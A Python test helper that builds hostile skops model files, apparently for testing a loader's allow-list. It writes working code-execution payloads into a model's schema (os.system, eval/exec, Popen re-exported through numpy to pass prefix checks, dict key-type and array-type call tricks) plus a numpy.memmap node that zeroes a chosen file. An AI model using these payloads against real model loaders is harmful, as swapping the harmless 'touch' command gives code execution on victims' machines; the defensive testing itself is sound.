"""Hand-crafted skops model files, as an attacker would write them: a valid model plus a node
that runs code (or writes a file) while skops rebuilds it."""

from __future__ import annotations

import io
import itertools
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from sklearn.base import BaseEstimator, ClassifierMixin

Node = dict[str, Any]
_ids = itertools.count(10_000)


def json_node(value: object) -> Node:
    return {
        "__class__": "str",
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "__id__": next(_ids),
        "content": json.dumps(value),
        "is_json": True,
    }


def _tuple(*items: object) -> Node:
    return {
        "__class__": "tuple",
        "__module__": "builtins",
        "__loader__": "TupleNode",
        "__id__": next(_ids),
        "content": [json_node(item) for item in items],
    }


def _type(module: str, name: str) -> Node:
    return {"__class__": name, "__module__": module, "__loader__": "TypeNode", "__id__": next(_ids)}


def call(module: str, name: str, *args: object) -> Node:
    """skops' ConstructorFromReduceNode: `module.name(*args)` while loading."""
    return {
        "__class__": name,
        "__module__": module,
        "__loader__": "ConstructorFromReduceNode",
        "__id__": next(_ids),
        "content": _tuple(*args),
    }


def _dict_node(content: dict[str, Node], key_type: Node | None = None) -> Node:
    return {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "__id__": next(_ids),
        "content": content,
        "key_types": {
            "__class__": "list",
            "__module__": "builtins",
            "__loader__": "ListNode",
            "__id__": next(_ids),
            "content": [key_type or _type("builtins", "str") for _ in content],
        },
    }


def _insert(attrs: Node, key: str, node: Node) -> None:
    """Add `key: node` to an ObjectNode's attribute dict (DictNode), keys and key types alike."""
    attrs["content"][key] = node
    attrs["key_types"]["content"].append(_type("builtins", "str"))


def _first(schema: Node, class_name: str) -> Node:
    stack: list[Any] = [schema]
    while stack:
        item = stack.pop(0)
        if isinstance(item, dict):
            if item.get("__class__") == class_name and item.get("__loader__") == "ObjectNode":
                return item
            stack.extend(item.values())
        elif isinstance(item, list):
            stack.extend(item)
    raise LookupError(class_name)


def rewrite(model: bytes, change: Callable[[Node], None]) -> bytes:
    """The model file with its schema.json changed in place (the arrays kept)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(model)) as source, zipfile.ZipFile(buffer, "w") as target:
        for name in source.namelist():
            content = source.read(name)
            if name == "schema.json":
                schema = json.loads(content)
                change(schema)
                content = json.dumps(schema).encode()
            target.writestr(name, content)
    return buffer.getvalue()


def at_top(node: Node) -> Callable[[Node], None]:
    return lambda schema: _insert(schema["content"], "payload", node)


def nested(node: Node) -> Callable[[Node], None]:
    """Deep inside a valid pipeline: an attribute of its ColumnTransformer."""
    return lambda schema: _insert(_first(schema, "ColumnTransformer")["content"], "_payload", node)


def shell(marker: Path) -> str:
    return f"touch {marker}"


def payloads(marker: Path, victim: Path) -> dict[str, Callable[[Node], None]]:
    """Each way in: name → schema change. Each either creates `marker` or zeroes `victim`."""
    python = f"__import__('pathlib').Path({str(marker)!r}).touch()"
    return {
        # numpy re-exports subprocess.Popen: a class under `numpy`, which a prefix check accepts
        "reexported-popen": at_top(
            call("numpy.distutils.fcompiler.gnu", "Popen", ["sh", "-c", shell(marker)])
        ),
        # a NumPy class whose constructor writes: overwrites any file with zeros
        "numpy-memmap": at_top(call("numpy", "memmap", str(victim), "uint8", "w+", 0, [16])),
        "builtins-eval": at_top(call("builtins", "eval", python)),
        "builtins-exec": at_top(call("builtins", "exec", python)),
        "os-system": at_top(call("os", "system", shell(marker))),
        "posix-system": at_top(call("posix", "system", shell(marker))),
        "subprocess-getoutput": at_top(call("subprocess", "getoutput", shell(marker))),
        # skops calls a dict's key type on each key: a key type can be any callable
        "dict-key-type": at_top(
            _dict_node({shell(marker): json_node(1)}, key_type=_type("posix", "system"))
        ),
        # skops' NdArrayNode calls its named type on the array
        "ndarray-type": at_top(
            {
                "__class__": "Popen",
                "__module__": "numpy.distutils.fcompiler.gnu",
                "__loader__": "NdArrayNode",
                "__id__": next(_ids),
                "type": "json",
                "shape": json_node([1]),
                "content": [json_node(shell(marker))],
            }
        ),
        "nested-in-valid-pipeline": nested(
            call("numpy.distutils.fcompiler.gnu", "Popen", ["sh", "-c", shell(marker)])
        ),
        # harmless by itself, but not what a random forest pipeline is made of
        "one-extra-unknown-type": at_top(
            {
                "__class__": "SVC",
                "__module__": "sklearn.svm._classes",
                "__loader__": "ObjectNode",
                "__id__": next(_ids),
            }
        ),
    }


class SneakyClassifier(ClassifierMixin, BaseEstimator):
    """A type outside the allow-list, as an attacker's model file would carry."""

    def fit(self, X: object, y: object) -> SneakyClassifier:
        return self
